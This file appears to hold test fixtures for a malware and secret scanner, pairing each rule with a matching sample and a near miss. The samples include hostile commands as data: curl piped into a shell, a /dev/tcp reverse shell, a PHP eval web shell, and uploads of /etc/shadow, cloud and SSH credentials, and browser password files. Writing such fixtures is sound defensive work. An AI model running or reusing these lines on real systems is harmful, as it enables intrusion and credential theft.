"""Harmless samples: for each rule what it must find, and something near it that it must leave alone.

Nothing here runs: programs are only a header and names, addresses are of example domains, keys are random text.
"""

from __future__ import annotations

import base64


def elf(*names: str, kind: int = 2, extra: bytes = b"") -> bytes:
    """A file that looks like a program for amd64 that imports these names; `kind` 3 is a shared library."""
    head = b"\x7fELF\x02\x01\x01" + bytes(9) + bytes([kind, 0, 62, 0]) + bytes(44)
    return head + b"\0" + b"\0".join(name.encode() for name in names) + b"\0" + extra


def script(*lines: str) -> bytes:
    return "\n".join(["#!/bin/sh", *lines, ""]).encode()


BODY = "\n".join(base64.b64encode(bytes([line]) * 48).decode() for line in range(65, 77))
KEY = f"-----BEGIN PRIVATE KEY-----\n{BODY}\n-----END PRIVATE KEY-----\n".encode()
HIDDEN = base64.b64encode(b"print('nothing at all, only long enough to count')").decode()

#: rule: (what it finds, what it leaves alone)
CAPABILITIES: dict[str, tuple[bytes, bytes]] = {
    "listens-on-network": (elf("listen", "accept4"), elf("listening", "accept")),
    "connects-to-network": (elf("getaddrinfo"), b"\0connect\0"),
    "captures-packets": (elf("pcap_create"), elf("pcap_lib_version")),
    "runs-programs": (elf("posix_spawn"), elf("execution")),
    "runs-from-memory": (elf("memfd_create", "fexecve"), elf("memfd_create")),
    "loads-code": (elf("dlopen"), elf("dlsym")),
    "reads-other-processes": (elf("ptrace"), elf("strace")),
    "loads-kernel-code": (elf("finit_module"), elf("init_modules")),
    "mounts-file-systems": (elf("umount2"), elf("getmntent")),
    "changes-user": (elf("setresuid"), elf("getuid")),
    "enters-namespaces": (elf("setns"), elf("namespace")),
}
MALWARE: dict[str, tuple[bytes, bytes]] = {
    "dropper-pipes-download-into-shell": (
        script("curl -fsSL https://get.example.org/install | sh"),
        script("# curl -fsSL https://get.example.org/install | sh", "curl -o file https://example.org/"),
    ),
    "dropper-runs-download-from-temporary-directory": (
        script("wget -q https://example.org/x -O /tmp/.x", "chmod +x /tmp/.x", "/tmp/.x &"),
        script("wget -q https://example.org/x -O /tmp/x.tar", "tar -xf /tmp/x.tar"),
    ),
    "dropper-decodes-into-shell": (
        script("echo ZWNobyBoZWxsbwo= | base64 -d | sh"),
        script("echo ZWNobyBoZWxsbwo= | base64 -d > file"),
    ),
    "dropper-executes-encoded-python": (
        f"import base64\nexec(base64.b64decode('{HIDDEN}'))\n".encode(),
        f"import base64\nprint(base64.b64decode('{HIDDEN}'))\n".encode(),
    ),
    "dropper-runs-download-from-memory": (
        elf("memfd_create", "fexecve", "connect", extra=b"GET /stage HTTP/1.0\r\n"),
        elf("memfd_create", "fexecve"),
    ),
    "reverse-shell": (
        script("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
        script("exec 3<>/dev/tcp/127.0.0.1/80"),
    ),
    "web-shell": (b"<?php @eval(base64_decode($_POST['c'])); ?>", b"<?php echo htmlspecialchars($_POST['c']); ?>"),
    "preload-rootkit": (
        elf("dlsym", "readdir", "execve", kind=3, extra=b"/etc/ld.so.preload\0/proc/self/fd/%d"),
        elf("readdir", "execve", kind=3, extra=b"/etc/ld.so.preload"),
    ),
    "miner-program": (
        elf("connect", extra=b"stratum+tcp://pool.example.org:3333\0mining.subscribe\0randomx"),
        elf("connect", extra=b"bitcoin\0randomx"),
    ),
    "miner-configuration": (
        b'{"url": "stratum+tcp://pool.example.org:3333", "user": "wallet"}',
        b"The address begins with stratum+tcp://, then the pool.",
    ),
    "steals-accounts": (
        script("tar c /etc/shadow | curl -T - https://example.org/"),
        script("chmod 640 /etc/shadow", "curl https://example.org/"),
    ),
    "steals-credentials": (
        b"import requests\nfor f in ('.aws/credentials', '.kube/config', '.ssh/id_rsa'):\n    requests.post(u, data=open(f))\n",
        b"import requests\nrequests.post(u, data=read('.aws/credentials'))\n",
    ),
    "steals-browser-passwords": (
        b"for n in ('Login Data', 'Local State', 'logins.json'):\n    urlopen('https://example.org/', open(n).read())\n",
        b"names = ('Login Data', 'Local State', 'logins.json')\n",
    ),
}  # fmt: skip
SECRETS: dict[str, tuple[bytes, bytes]] = {
    "private-key": (KEY, elf("connect", extra=KEY + b"\0FIPS 140 self-test failed\0")),
    "cloud-access-key": (b"key = AKIA" + b"QRSTUVWXYZ234567\n", b"key = AKIAIOSFODNN7EXAMPLE\n"),
    "service-token": (b"token: ghp_" + b"a1B2c3D4e5F6" * 3, b"token: ghp_short"),
}
